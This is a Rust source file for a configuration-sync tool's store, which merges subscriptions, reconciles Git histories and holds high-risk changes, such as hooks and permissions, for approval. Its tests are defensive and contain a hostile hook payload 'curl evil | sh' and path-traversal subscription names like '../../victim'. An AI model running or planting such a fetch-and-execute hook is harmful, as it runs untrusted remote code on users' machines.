// SPDX-FileCopyrightText: 2025 Jason Pena <jasonpena@awkless.com>
// SPDX-License-Identifier: MIT

//! Store management and manipulation.
//!
//! Confsync keeps everything it manages in one place called the __store__.
//! The store houses the local working copy of the configuration document,
//! a clone of every subscription, and the machine-local bookkeeping that
//! never leaves the current machine.
//!
//! # Store Layout
//!
//! The store can generally be placed anywhere on the user's file system.
//! However, the default location is `$XDG_DATA_HOME/confsync-store`.
//!
//! ```text
//! <store>/config.toml            local document (working copy)
//! <store>/subscriptions/<name>/  subscription clone
//! <store>/state.toml             subscription state
//! <store>/pending.toml           pending ledger
//! ```
//!
//! Subscription clones are fetched by external tooling. Each clone must hold
//! its own document at the top-level named "config.toml". The store itself
//! may be a Git repository shared between machines, in which case
//! [`Store::reconcile`] merges diverged histories of the local document.
//!
//! Every operation loads what it needs, computes its result in memory, and
//! only then writes. A failure aborts the operation before any write.

use crate::{
    category::{Category, PerCategory},
    change::ChangeSet,
    classify::{classify, ChangeClassification},
    config::{is_valid_subscription_name, ConfigDocument, ConfigError, SubscriptionEntry},
    merge::{merge_documents, DocumentMerge},
    path::write_atomic,
    pending::{PendingChanges, PendingError, PendingLedger, Staged},
    subscription::{merge_subscriptions, Conflict, Feed, StateError, SubscriptionState},
    vcs::{Git2Revisions, RevisionReader, VcsError},
};

use std::{
    collections::{BTreeMap, BTreeSet},
    error::Error as StdError,
    fs,
    io::ErrorKind,
    path::{Path, PathBuf},
};
use tracing::{debug, info, instrument, warn};

/// Name of document file in store and in every subscription clone.
pub const DOCUMENT_FILE: &str = "config.toml";

const STATE_FILE: &str = "state.toml";
const LEDGER_FILE: &str = "pending.toml";
const SUBSCRIPTIONS_DIR: &str = "subscriptions";

/// What to do when a merge produces conflicts.
#[derive(Default, Debug, PartialEq, Eq, Copy, Clone)]
pub enum ConflictPolicy {
    /// Keep the unconflicted subset of the merge.
    #[default]
    Proceed,

    /// Leave everything untouched.
    Halt,
}

/// Outcome of pulling subscriptions.
#[derive(Default, Debug, PartialEq, Clone)]
pub struct PullReport {
    /// Number of items folded into the local document.
    pub inserted: usize,

    /// Whether the local document and subscription state were written.
    pub applied: bool,

    /// Collisions that no prefer claim could settle.
    pub conflicts: Vec<Conflict>,

    /// Items each subscription offers that were not seen before.
    pub news: BTreeMap<String, PerCategory<BTreeSet<String>>>,
}

/// Outcome of staging changes for the installed application.
#[derive(Debug, PartialEq, Clone)]
pub struct ChangeOutcome {
    /// Changes that may be applied right away.
    pub safe: ChangeSet,

    /// Every changed item, split by risk.
    pub classification: ChangeClassification,

    /// What happened to the pending ledger.
    pub staged: Staged,
}

/// Local store.
#[derive(Debug, Clone)]
pub struct Store<R = Git2Revisions> {
    store_path: PathBuf,
    revisions: R,
}

impl Store<Git2Revisions> {
    /// Open store at target path.
    ///
    /// Creates the store directory layout if missing.
    ///
    /// # Errors
    ///
    /// - Return [`StoreError::CreateStore`] if store directory cannot be
    ///   created.
    pub fn open(path: impl Into<PathBuf>) -> Result<Self> {
        Self::with_revisions(path, Git2Revisions)
    }
}

impl<R> Store<R>
where
    R: RevisionReader,
{
    /// Open store at target path with custom revision reader.
    #[instrument(skip(path, revisions), level = "debug")]
    pub fn with_revisions(path: impl Into<PathBuf>, revisions: R) -> Result<Self> {
        let store_path = path.into();
        debug!("open store: {:?}", store_path.display());
        fs::create_dir_all(store_path.join(SUBSCRIPTIONS_DIR)).map_err(|err| {
            StoreError::CreateStore {
                source: err,
                store_path: store_path.clone(),
            }
        })?;

        Ok(Self {
            store_path,
            revisions,
        })
    }

    pub fn path(&self) -> &Path {
        self.store_path.as_path()
    }

    pub fn document_path(&self) -> PathBuf {
        self.store_path.join(DOCUMENT_FILE)
    }

    pub fn clone_path(&self, name: &str) -> PathBuf {
        self.store_path.join(SUBSCRIPTIONS_DIR).join(name)
    }

    pub fn ledger(&self) -> PendingLedger {
        PendingLedger::new(self.store_path.join(LEDGER_FILE))
    }

    /// Revision id of the store itself, if it is a repository with commits.
    pub fn revision(&self) -> Result<Option<String>> {
        Ok(self.revisions.head(&self.store_path)?)
    }

    /// Load local document.
    ///
    /// A store without a document yields an empty document.
    ///
    /// # Errors
    ///
    /// - Return [`StoreError::Read`] if document cannot be read.
    /// - Return [`StoreError::Document`] if document is malformed.
    pub fn load_document(&self) -> Result<ConfigDocument> {
        let document_path = self.document_path();
        match read_optional(&document_path)? {
            Some(data) => data.parse().map_err(|err| StoreError::Document {
                source: err,
                document_path,
            }),
            None => Ok(ConfigDocument::default()),
        }
    }

    /// Replace local document.
    ///
    /// # Errors
    ///
    /// - Return [`StoreError::Document`] if document is invalid.
    /// - Return [`StoreError::Write`] if document cannot be written.
    pub fn save_document(&self, document: &ConfigDocument) -> Result<()> {
        let document_path = self.document_path();
        let data = document
            .validate()
            .and_then(|_| toml::ser::to_string_pretty(document).map_err(ConfigError::Serialize))
            .map_err(|err| StoreError::Document {
                source: err,
                document_path: document_path.clone(),
            })?;

        write_atomic(&document_path, data).map_err(|err| StoreError::Write {
            source: err,
            path: document_path,
        })
    }

    /// Add or replace subscription.
    ///
    /// # Errors
    ///
    /// - Return [`StoreError::InvalidName`] if name cannot serve as a
    ///   directory name.
    #[instrument(skip(self, entry), level = "debug")]
    pub fn subscribe(&self, name: &str, entry: SubscriptionEntry) -> Result<()> {
        check_name(name)?;
        let mut document = self.load_document()?;
        let source = entry.source.clone();
        let replaced = document.subscriptions.insert(name.into(), entry).is_some();
        self.save_document(&document)?;

        if replaced {
            info!("update subscription {name:?}");
        } else {
            info!("subscribe to {name:?} at {source:?}");
        }

        Ok(())
    }

    /// Remove subscription.
    ///
    /// Purges the subscription entry, its clone, and its state record.
    ///
    /// # Errors
    ///
    /// - Return [`StoreError::InvalidName`] if name cannot serve as a
    ///   directory name.
    /// - Return [`StoreError::NotSubscribed`] if no such subscription exists.
    /// - Return [`StoreError::Purge`] if clone cannot be removed. Document and
    ///   state are already updated at that point.
    #[instrument(skip(self), level = "debug")]
    pub fn unsubscribe(&self, name: &str) -> Result<()> {
        check_name(name)?;
        let mut document = self.load_document()?;
        if document.subscriptions.remove(name).is_none() {
            return Err(StoreError::NotSubscribed { name: name.into() });
        }

        let mut state = self.load_state()?;
        state.forget(name);

        // INVARIANT: Purge clone only after document and state are written.
        self.save_document(&document)?;
        self.save_state(&state)?;

        let clone_path = self.clone_path(name);
        if clone_path.exists() {
            debug!("purge clone {:?}", clone_path.display());
            fs::remove_dir_all(&clone_path).map_err(|err| StoreError::Purge {
                source: err,
                clone_path: clone_path.clone(),
            })?;
        }

        info!("unsubscribe from {name:?}");

        Ok(())
    }

    /// Load every subscription together with the document of its clone.
    ///
    /// # Errors
    ///
    /// - Return [`StoreError::MissingClone`] if a subscription was never
    ///   fetched.
    /// - Return [`StoreError::MissingDocument`] if a clone lacks a document.
    /// - Return [`StoreError::SubscriptionDocument`] if a clone holds a
    ///   malformed document.
    pub fn feeds(&self) -> Result<Vec<Feed>> {
        let document = self.load_document()?;
        self.feeds_of(&document)
    }

    /// Merge every subscription into the local document.
    ///
    /// Local values always win. With [`ConflictPolicy::Halt`], any conflict
    /// leaves the local document and subscription state untouched.
    #[instrument(skip(self), level = "debug")]
    pub fn pull(&self, policy: ConflictPolicy) -> Result<PullReport> {
        let mut document = self.load_document()?;
        let feeds = self.feeds_of(&document)?;
        let mut state = self.load_state()?;

        let mut heads = BTreeMap::new();
        for feed in &feeds {
            let head = self
                .revisions
                .head(&self.clone_path(&feed.name))
                .map_err(|err| StoreError::SubscriptionRevision {
                    source: err,
                    name: feed.name.clone(),
                })?;
            heads.insert(feed.name.clone(), head);
        }

        let report = merge_subscriptions(&document, feeds);
        let news = report
            .selections
            .iter()
            .map(|(name, selection)| (name.clone(), state.whats_new(name, selection)))
            .filter(|(_, news)| !news.is_empty())
            .collect();

        if !report.is_clean() && policy == ConflictPolicy::Halt {
            warn!("halt pull on {} conflicts", report.conflicts.len());
            return Ok(PullReport {
                inserted: 0,
                applied: false,
                conflicts: report.conflicts,
                news,
            });
        }

        if report.result.is_empty() {
            debug!("subscriptions offer nothing to fold");
        }

        for category in Category::ALL {
            for (item, source) in report.result.provenance.items(category) {
                debug!("{category} {item:?} supplied by {source:?}");
            }
        }

        let inserted = report.result.apply_to(&mut document);
        for (name, selection) in &report.selections {
            let head = heads.remove(name).flatten();
            state.accept(name.as_str(), head, selection);
        }

        self.save_document(&document)?;
        self.save_state(&state)?;
        info!(
            "pulled {} subscriptions, folded {inserted} items",
            report.selections.len()
        );

        Ok(PullReport {
            inserted,
            applied: true,
            conflicts: report.conflicts,
            news,
        })
    }

    /// Items each subscription offers that were not seen before.
    ///
    /// Subscriptions with nothing new are left out.
    pub fn whats_new(&self) -> Result<BTreeMap<String, PerCategory<BTreeSet<String>>>> {
        let state = self.load_state()?;
        let news = self
            .feeds()?
            .iter()
            .map(|feed| (feed.name.clone(), state.whats_new(&feed.name, &feed.selection())))
            .filter(|(_, news)| !news.is_empty())
            .collect();

        Ok(news)
    }

    /// Reconcile local document with a diverged revision of the store.
    ///
    /// Merges the working copy against the document at `remote` using the
    /// document at their merge base as ancestor. With
    /// [`ConflictPolicy::Halt`], any conflict leaves the working copy
    /// untouched.
    ///
    /// # Errors
    ///
    /// - Return [`StoreError::Vcs`] if revisions cannot be read.
    /// - Return [`StoreError::RevisionDocument`] if a revision holds a
    ///   malformed document.
    #[instrument(skip(self), level = "debug")]
    pub fn reconcile(&self, remote: &str, policy: ConflictPolicy) -> Result<DocumentMerge> {
        let local = self.load_document()?;
        let base_revision = self.revisions.merge_base(&self.store_path, "HEAD", remote)?;
        debug!("merge base of HEAD and {remote}: {base_revision}");
        let base = self.document_at(&base_revision)?;
        let theirs = self.document_at(remote)?;

        let merge = merge_documents(&base, &local, &theirs);
        if !merge.is_clean() && policy == ConflictPolicy::Halt {
            warn!("halt reconcile on {} conflicts", merge.conflicts.len());
            return Ok(merge);
        }

        self.save_document(&merge.document)?;
        info!("reconciled working copy with {remote}");

        Ok(merge)
    }

    /// Classify changes between installed state and local document.
    ///
    /// High-risk changes replace whatever the pending ledger held, since the
    /// diff against installed state always covers every outstanding change.
    /// A change the local document no longer asks for thus never survives in
    /// the ledger. The safe part is returned for immediate application.
    #[instrument(skip(self, installed), level = "debug")]
    pub fn stage_changes(&self, installed: &ConfigDocument, revision: &str) -> Result<ChangeOutcome> {
        let desired = self.load_document()?;
        let changes = ChangeSet::between(installed, &desired);
        let classification = classify(&changes);
        let (safe, high_risk) = changes.split();

        let staged = self
            .ledger()
            .replace(PendingChanges::from_changes(revision, &high_risk))?;
        info!(
            "{} safe changes, {} changes awaiting approval",
            classification.safe.len(),
            classification.high_risk.len()
        );

        Ok(ChangeOutcome {
            safe,
            classification,
            staged,
        })
    }

    /// Currently pending batch.
    pub fn pending(&self) -> Result<PendingChanges> {
        Ok(self.ledger().read()?)
    }

    /// Approve pending batch through `apply`.
    pub fn approve<F, E>(&self, apply: F) -> Result<Option<PendingChanges>>
    where
        F: FnOnce(&PendingChanges) -> std::result::Result<(), E>,
        E: Into<Box<dyn StdError + Send + Sync>>,
    {
        Ok(self.ledger().approve(apply)?)
    }

    /// Discard pending batch.
    pub fn reject(&self) -> Result<Option<PendingChanges>> {
        Ok(self.ledger().reject()?)
    }

    fn feeds_of(&self, document: &ConfigDocument) -> Result<Vec<Feed>> {
        document
            .subscriptions
            .iter()
            .map(|(name, entry)| -> Result<Feed> {
                let document = self.feed_document(name)?;
                Ok(Feed::new(name.as_str(), entry.clone(), document))
            })
            .collect()
    }

    fn feed_document(&self, name: &str) -> Result<ConfigDocument> {
        let clone_path = self.clone_path(name);
        if !clone_path.is_dir() {
            return Err(StoreError::MissingClone {
                name: name.into(),
                clone_path,
            });
        }

        let document_path = clone_path.join(DOCUMENT_FILE);
        let data = read_optional(&document_path)?.ok_or_else(|| StoreError::MissingDocument {
            name: name.into(),
            document_path,
        })?;

        data.parse().map_err(|err| StoreError::SubscriptionDocument {
            source: err,
            name: name.into(),
        })
    }

    fn document_at(&self, revision: &str) -> Result<ConfigDocument> {
        let data = self
            .revisions
            .read_file(&self.store_path, revision, Path::new(DOCUMENT_FILE))?;

        match data {
            Some(data) => data.parse().map_err(|err| StoreError::RevisionDocument {
                source: err,
                revision: revision.into(),
            }),
            None => Ok(ConfigDocument::default()),
        }
    }

    fn load_state(&self) -> Result<SubscriptionState> {
        let state_path = self.store_path.join(STATE_FILE);
        match read_optional(&state_path)? {
            Some(data) => data
                .parse()
                .map_err(|err| StoreError::State { source: err, state_path }),
            None => Ok(SubscriptionState::default()),
        }
    }

    fn save_state(&self, state: &SubscriptionState) -> Result<()> {
        let state_path = self.store_path.join(STATE_FILE);
        let data = toml::ser::to_string_pretty(state).map_err(|err| StoreError::State {
            source: StateError::Serialize(err),
            state_path: state_path.clone(),
        })?;

        write_atomic(&state_path, data).map_err(|err| StoreError::Write {
            source: err,
            path: state_path,
        })
    }
}

fn read_optional(path: &Path) -> Result<Option<String>> {
    match fs::read_to_string(path) {
        Ok(data) => Ok(Some(data)),
        Err(err) if err.kind() == ErrorKind::NotFound => Ok(None),
        Err(err) => Err(StoreError::Read {
            source: err,
            path: path.to_path_buf(),
        }),
    }
}

fn check_name(name: &str) -> Result<()> {
    if is_valid_subscription_name(name) {
        Ok(())
    } else {
        Err(StoreError::InvalidName { name: name.into() })
    }
}

/// All possible error types for store interaction.
#[derive(Debug, thiserror::Error)]
pub enum StoreError {
    /// Store directory cannot be created.
    #[error("failed to create store at {:?}", store_path.display())]
    CreateStore {
        #[source]
        source: std::io::Error,
        store_path: PathBuf,
    },

    /// File cannot be read.
    #[error("failed to read {:?}", path.display())]
    Read {
        #[source]
        source: std::io::Error,
        path: PathBuf,
    },

    /// File cannot be written.
    #[error("failed to write {:?}", path.display())]
    Write {
        #[source]
        source: std::io::Error,
        path: PathBuf,
    },

    /// Local document is malformed or invalid.
    #[error("bad document at {:?}", document_path.display())]
    Document {
        #[source]
        source: ConfigError,
        document_path: PathBuf,
    },

    /// Subscription state is malformed.
    #[error("bad subscription state at {:?}", state_path.display())]
    State {
        #[source]
        source: StateError,
        state_path: PathBuf,
    },

    /// Subscription name cannot be used.
    #[error("invalid subscription name {name:?}")]
    InvalidName { name: String },

    /// Subscription does not exist.
    #[error("no subscription named {name:?}")]
    NotSubscribed { name: String },

    /// Subscription clone cannot be purged.
    #[error("failed to purge subscription clone at {:?}", clone_path.display())]
    Purge {
        #[source]
        source: std::io::Error,
        clone_path: PathBuf,
    },

    /// Subscription was never fetched.
    #[error("subscription {name:?} has no clone at {:?}", clone_path.display())]
    MissingClone { name: String, clone_path: PathBuf },

    /// Subscription clone lacks a document.
    #[error("subscription {name:?} has no document at {:?}", document_path.display())]
    MissingDocument { name: String, document_path: PathBuf },

    /// Subscription clone holds a malformed document.
    #[error("bad document in subscription {name:?}")]
    SubscriptionDocument {
        #[source]
        source: ConfigError,
        name: String,
    },

    /// Revision of subscription clone cannot be read.
    #[error("failed to read revision of subscription {name:?}")]
    SubscriptionRevision {
        #[source]
        source: VcsError,
        name: String,
    },

    /// Store revision holds a malformed document.
    #[error("bad document at revision {revision:?}")]
    RevisionDocument {
        #[source]
        source: ConfigError,
        revision: String,
    },

    /// Revision access fails.
    #[error(transparent)]
    Vcs(#[from] VcsError),

    /// Pending ledger manipulation fails.
    #[error(transparent)]
    Pending(#[from] PendingError),
}

/// Friendly result alias :3
pub type Result<T, E = StoreError> = std::result::Result<T, E>;

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::{Payload, SelectMode};
    use indoc::indoc;
    use pretty_assertions::assert_eq;
    use sealed_test::prelude::*;
    use std::collections::HashMap;

    /// Revision reader serving canned answers.
    #[derive(Default)]
    struct CannedRevisions {
        head: Option<String>,
        base: String,
        files: HashMap<String, String>,
    }

    impl RevisionReader for CannedRevisions {
        fn head(&self, _: &Path) -> crate::vcs::Result<Option<String>> {
            Ok(self.head.clone())
        }

        fn read_file(&self, _: &Path, revision: &str, _: &Path) -> crate::vcs::Result<Option<String>> {
            Ok(self.files.get(revision).cloned())
        }

        fn merge_base(&self, _: &Path, _: &str, _: &str) -> crate::vcs::Result<String> {
            Ok(self.base.clone())
        }
    }

    fn store(revisions: CannedRevisions) -> anyhow::Result<Store<CannedRevisions>> {
        Ok(Store::with_revisions(std::env::current_dir()?.join("store"), revisions)?)
    }

    fn write_feed<R: RevisionReader>(store: &Store<R>, name: &str, data: &str) -> anyhow::Result<()> {
        let clone_path = store.clone_path(name);
        fs::create_dir_all(&clone_path)?;
        fs::write(clone_path.join(DOCUMENT_FILE), data)?;
        Ok(())
    }

    fn everything(source: &str) -> SubscriptionEntry {
        let mut entry = SubscriptionEntry::new(source);
        for category in Category::ALL {
            entry.filter_mut(category).mode = SelectMode::All;
        }
        entry
    }

    #[sealed_test]
    fn subscribe_then_unsubscribe_purges_everything() -> anyhow::Result<()> {
        let store = store(CannedRevisions {
            head: Some("abc123".into()),
            ..Default::default()
        })?;
        store.subscribe("team", everything("/srv/team"))?;
        write_feed(&store, "team", "docs = [\"style\"]\n")?;
        store.pull(ConflictPolicy::Proceed)?;
        assert!(store.load_state()?.revision("team").is_some());

        store.unsubscribe("team")?;
        assert!(store.load_document()?.subscriptions.is_empty());
        assert!(!store.clone_path("team").exists());
        assert_eq!(store.load_state()?, SubscriptionState::default());

        let result = store.unsubscribe("team");
        assert!(matches!(result, Err(StoreError::NotSubscribed { .. })));
        Ok(())
    }

    #[sealed_test]
    fn subscribe_rejects_bad_names() -> anyhow::Result<()> {
        let store = store(CannedRevisions::default())?;
        for name in ["", "..", "team/evil"] {
            let result = store.subscribe(name, everything("/srv/team"));
            assert!(matches!(result, Err(StoreError::InvalidName { .. })));
        }
        Ok(())
    }

    #[sealed_test]
    fn unsubscribe_stays_inside_store() -> anyhow::Result<()> {
        let store = store(CannedRevisions::default())?;
        let victim = std::env::current_dir()?.join("victim");
        fs::create_dir_all(&victim)?;

        for name in ["../../victim", ".."] {
            let result = store.unsubscribe(name);
            assert!(matches!(result, Err(StoreError::InvalidName { .. })));
        }
        assert!(victim.exists());
        assert!(store.path().exists());

        fs::write(
            store.document_path(),
            "[subscription.\"../../victim\"]\nsource = \"/srv/team\"\n",
        )?;
        assert!(matches!(store.load_document(), Err(StoreError::Document { .. })));
        assert!(store.pull(ConflictPolicy::Proceed).is_err());
        assert!(victim.exists());
        Ok(())
    }

    #[sealed_test]
    fn failed_unsubscribe_keeps_clone() -> anyhow::Result<()> {
        let store = store(CannedRevisions::default())?;
        store.subscribe("team", everything("/srv/team"))?;
        write_feed(&store, "team", "docs = [\"style\"]\n")?;

        // Directory in place of the temporary file makes the document write fail.
        let blocker = store.path().join("config.toml.tmp");
        fs::create_dir_all(blocker.join("inside"))?;
        let result = store.unsubscribe("team");
        assert!(matches!(result, Err(StoreError::Write { .. })));
        assert!(store.clone_path("team").join(DOCUMENT_FILE).exists());

        fs::remove_dir_all(&blocker)?;
        assert!(store.load_document()?.subscriptions.contains_key("team"));
        assert_eq!(store.feeds()?.len(), 1);
        Ok(())
    }

    #[sealed_test(env = [("TEAM", "/home/alice/team")])]
    fn saved_document_keeps_sources_unexpanded() -> anyhow::Result<()> {
        let store = store(CannedRevisions::default())?;
        fs::write(
            store.document_path(),
            indoc! {r#"
                [subscription.team]
                source = "$TEAM/config.git"
            "#},
        )?;

        store.subscribe("other", everything("/srv/other"))?;
        let data = fs::read_to_string(store.document_path())?;
        assert!(data.contains(r#"source = "$TEAM/config.git""#), "{data}");
        assert!(!data.contains("/home/alice"), "{data}");

        let document = store.load_document()?;
        assert_eq!(
            document.subscriptions["team"].expanded_source()?,
            "/home/alice/team/config.git"
        );
        Ok(())
    }

    #[sealed_test]
    fn pull_tolerates_unknown_variables_in_feeds() -> anyhow::Result<()> {
        let store = store(CannedRevisions::default())?;
        store.subscribe("team", everything("/srv/team"))?;
        write_feed(
            &store,
            "team",
            indoc! {r#"
                docs = ["style"]

                [subscription.upstream]
                source = "$CONFSYNC_NO_SUCH_VAR/config.git"
            "#},
        )?;

        let report = store.pull(ConflictPolicy::Proceed)?;
        assert!(report.applied);
        assert!(store.load_document()?.docs.contains("style"));
        Ok(())
    }

    #[sealed_test]
    fn pull_folds_items_and_records_state() -> anyhow::Result<()> {
        let store = store(CannedRevisions {
            head: Some("abc123".into()),
            ..Default::default()
        })?;
        let mut local = ConfigDocument::default();
        local.mcp.insert("sentry".into(), Payload::new("local"));
        store.save_document(&local)?;
        store.subscribe("team", everything("/srv/team"))?;
        write_feed(
            &store,
            "team",
            indoc! {r#"
                docs = ["style"]

                [mcp]
                sentry = "remote"
                github = "npx github"
            "#},
        )?;

        let report = store.pull(ConflictPolicy::Proceed)?;
        assert!(report.applied);
        assert_eq!(report.inserted, 2);
        assert!(report.news["team"].mcp.contains("github"));

        let document = store.load_document()?;
        assert_eq!(document.mcp["sentry"], Payload::new("local"));
        assert_eq!(document.mcp["github"], Payload::new("npx github"));
        assert!(document.docs.contains("style"));
        assert_eq!(store.load_state()?.revision("team"), Some("abc123"));
        assert!(store.whats_new()?.is_empty());

        let report = store.pull(ConflictPolicy::Proceed)?;
        assert_eq!(report.inserted, 0);
        assert!(report.news.is_empty());
        Ok(())
    }

    #[sealed_test]
    fn halted_pull_writes_nothing() -> anyhow::Result<()> {
        let store = store(CannedRevisions::default())?;
        store.subscribe("alpha", everything("/srv/alpha"))?;
        store.subscribe("beta", everything("/srv/beta"))?;
        write_feed(&store, "alpha", "[mcp]\nsentry = \"one\"\n")?;
        write_feed(&store, "beta", "[mcp]\nsentry = \"two\"\n")?;
        let before = store.load_document()?;

        let report = store.pull(ConflictPolicy::Halt)?;
        assert!(!report.applied);
        assert_eq!(report.conflicts.len(), 1);
        assert_eq!(store.load_document()?, before);
        assert_eq!(store.load_state()?, SubscriptionState::default());
        Ok(())
    }

    #[sealed_test]
    fn feeds_name_the_broken_subscription() -> anyhow::Result<()> {
        let store = store(CannedRevisions::default())?;
        store.subscribe("team", everything("/srv/team"))?;
        assert!(matches!(
            store.feeds(),
            Err(StoreError::MissingClone { name, .. }) if name == "team"
        ));

        fs::create_dir_all(store.clone_path("team"))?;
        assert!(matches!(
            store.feeds(),
            Err(StoreError::MissingDocument { name, .. }) if name == "team"
        ));

        write_feed(&store, "team", "docs = 42\n")?;
        assert!(matches!(
            store.feeds(),
            Err(StoreError::SubscriptionDocument { name, .. }) if name == "team"
        ));

        let before = store.load_document()?;
        assert!(store.pull(ConflictPolicy::Proceed).is_err());
        assert_eq!(store.load_document()?, before);
        Ok(())
    }

    #[sealed_test]
    fn reconcile_keeps_both_sides() -> anyhow::Result<()> {
        let mut files = HashMap::new();
        files.insert("base".to_string(), "docs = [\"style\"]\n".to_string());
        files.insert("remote".to_string(), "docs = [\"style\", \"testing\"]\n".to_string());
        let store = store(CannedRevisions {
            base: "base".into(),
            files,
            ..Default::default()
        })?;

        let mut local = ConfigDocument::default();
        local.docs.insert("style".into());
        local.docs.insert("release".into());
        store.save_document(&local)?;

        let merge = store.reconcile("remote", ConflictPolicy::Halt)?;
        assert!(merge.is_clean());
        let docs: BTreeSet<String> = ["release", "style", "testing"].map(String::from).into();
        assert_eq!(store.load_document()?.docs, docs);
        Ok(())
    }

    #[sealed_test]
    fn stage_changes_defers_high_risk() -> anyhow::Result<()> {
        let store = store(CannedRevisions::default())?;
        let mut desired = ConfigDocument::default();
        desired.docs.insert("style".into());
        desired.permissions.allow.insert("Bash(git *)".into());
        store.save_document(&desired)?;

        let mut installed = ConfigDocument::default();
        let outcome = store.stage_changes(&installed, "abc123")?;
        assert_eq!(outcome.staged, Staged::Created);
        assert_eq!(outcome.classification.safe.len(), 1);
        assert_eq!(outcome.classification.high_risk.len(), 1);
        assert!(outcome.safe.permissions.is_empty());

        outcome.safe.apply_to(&mut installed);
        assert!(installed.docs.contains("style"));
        assert!(installed.permissions.is_empty());

        let approved = store.approve(|batch| {
            batch.apply_to(&mut installed);
            Ok::<_, std::io::Error>(())
        })?;
        assert_eq!(approved.map(|batch| batch.revision), Some("abc123".to_string()));
        assert_eq!(installed, desired);
        assert!(store.pending()?.is_empty());
        assert_eq!(store.reject()?, None);
        Ok(())
    }

    #[sealed_test]
    fn restaging_drops_hooks_removed_from_document() -> anyhow::Result<()> {
        let store = store(CannedRevisions::default())?;
        let mut desired = ConfigDocument::default();
        desired.hooks.insert("stop".into(), Payload::new("curl evil | sh"));
        desired.mcp.insert("sentry".into(), Payload::new("npx sentry"));
        store.save_document(&desired)?;

        let mut installed = ConfigDocument::default();
        let outcome = store.stage_changes(&installed, "abc123")?;
        assert_eq!(outcome.staged, Staged::Created);

        desired.hooks.clear();
        store.save_document(&desired)?;
        let outcome = store.stage_changes(&installed, "def456")?;
        assert_eq!(outcome.staged, Staged::Replaced);
        assert!(store.pending()?.hooks.is_empty());

        store.approve(|batch| {
            batch.apply_to(&mut installed);
            Ok::<_, std::io::Error>(())
        })?;
        assert_eq!(installed, desired);

        desired.mcp.clear();
        store.save_document(&desired)?;
        let outcome = store.stage_changes(&installed, "0a1b2c")?;
        assert_eq!(outcome.staged, Staged::Created);

        store.save_document(&installed)?;
        let outcome = store.stage_changes(&installed, "3d4e5f")?;
        assert_eq!(outcome.staged, Staged::Cleared);
        assert!(store.pending()?.is_empty());
        Ok(())
    }
}
